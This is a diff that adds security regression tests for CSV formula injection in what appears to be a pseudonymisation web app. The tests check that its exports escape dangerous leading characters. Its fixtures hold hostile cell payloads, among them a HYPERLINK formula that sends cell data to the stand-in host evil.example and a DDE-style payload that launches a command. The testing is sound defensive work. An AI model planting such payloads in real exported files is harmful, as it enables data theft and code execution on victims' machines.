@@ -118,3 +118,82 @@ def test_finding_01_cut_window_prefers_line_breaks(centred):
     # without line breaks: plain token boundaries, exactly the size
     first, end = cut_window((500, 502), 95, (0, 1000), [], centred)
     assert first <= 500 and end >= 502 and end - first == 95
+
+
+# --- finding 2: CSV formula injection --------------------------------------------------------------------------
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+EVIL_CELLS = (EVIL, "+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tx", "\rx")
+
+
+def _csv_rows(response) -> list[list[str]]:
+    import csv
+    import io
+    assert response.status_code == 200, response.get_data(as_text=True)[:300]
+    assert response.headers["Cache-Control"] == "no-store"
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))
+
+
+def _assert_no_formula(rows: list[list[str]], must_contain: str = EVIL) -> None:
+    cells = [cell for row in rows for cell in row]
+    assert "'" + must_contain in cells, cells
+    for cell in cells:
+        assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not cell[1:].replace(".", "")
+                                                             .isdigit()), cell
+
+
+@pytest.fixture()
+def evil_project(clean_app):
+    from tests.web.helpers import add_label, add_rule, new_project
+    from tests.web.test_pseudonym_key import TEXT_A, _label_span
+    app = clean_app
+    pid = new_project(app, "Evil project")
+    doc = add_document(app, TEXT_A, [("John Smith", "PERSON")], project_id=pid, name="a.txt")
+    sql(app, "UPDATE rule SET confidence = -1 WHERE project_id = %s AND type = 'NE_TYPE'", (pid,))
+    label = add_label(app, pid, EVIL, "PERSON", replacement="@SUM(1+1)")
+    add_rule(app, pid, "+cmd", label_id=label)
+    _label_span(app, doc, "John", label)
+    sql(app, "INSERT INTO decision_log (project_id, document_id, first_token, end_token, action, decision, "
+             "label_name) VALUES (%s, %s, 0, 2, 'decide', 'PRIVATE', %s)", (pid, doc, EVIL))
+    return {"pid": pid, "doc": doc}
+
+
+def test_finding_02_csv_injection_project_key(admin_client, evil_project):
+    from psan.tool.keyfile import parse_key
+    response = admin_client.get(f"/documents/project/{evil_project['pid']}/key.csv")
+    _assert_no_formula(_csv_rows(response))
+    # the escaping is undone on reading: the key still restores the original
+    key = parse_key(response.get_data(as_text=True), "csv")
+    assert {e["label_name"] for entries in key.entries.values() for e in entries} >= {EVIL}
+
+
+def test_finding_02_csv_injection_labels_export(admin_client, evil_project):
+    _assert_no_formula(_csv_rows(admin_client.get(f"/labels/{evil_project['pid']}/export.csv")))
+
+
+def test_finding_02_csv_injection_rules_export(admin_client, evil_project):
+    _assert_no_formula(_csv_rows(admin_client.get(f"/rules/{evil_project['pid']}/export.csv")), "+cmd")
+
+
+def test_finding_02_csv_injection_history_export(admin_client, evil_project):
+    _assert_no_formula(_csv_rows(admin_client.get(f"/documents/{evil_project['doc']}/history.csv")))
+
+
+def test_finding_02_csv_injection_tool_keys():
+    import csv
+    import io
+
+    from psan.tool.csvcell import escape_cell, unescape_cell
+    from psan.tool.keyfile import CSV_FIELDS, key_csv
+    from psan.tool.surrogates.key import PseudonymKey
+    for value in (*EVIL_CELLS, "'=x", "''", "-1", "0.5", "plain"):
+        assert unescape_cell(escape_cell(value)) == value
+    entry = {"document": "1", "original_start": 0, "original_end": 4, "original_text": "=1+1", "category": "PERSON",
+             "label": 1, "label_name": EVIL, "replacement": "@x", "output_start": 0, "output_end": 2,
+             "source": "label"}
+    text = key_csv([entry])
+    _assert_no_formula([list(r) for r in csv.reader(io.StringIO(text, newline=""))][1:])
+    assert set(CSV_FIELDS) >= {"label_name", "original_text"}
+    key = PseudonymKey([{k: entry.get(k) for k in entry}])
+    written = key.to_csv()
+    _assert_no_formula([list(r) for r in csv.reader(io.StringIO(written, newline=""))][1:], "=1+1")
+    assert PseudonymKey.from_csv(written).entries[0]["original_text"] == "=1+1"
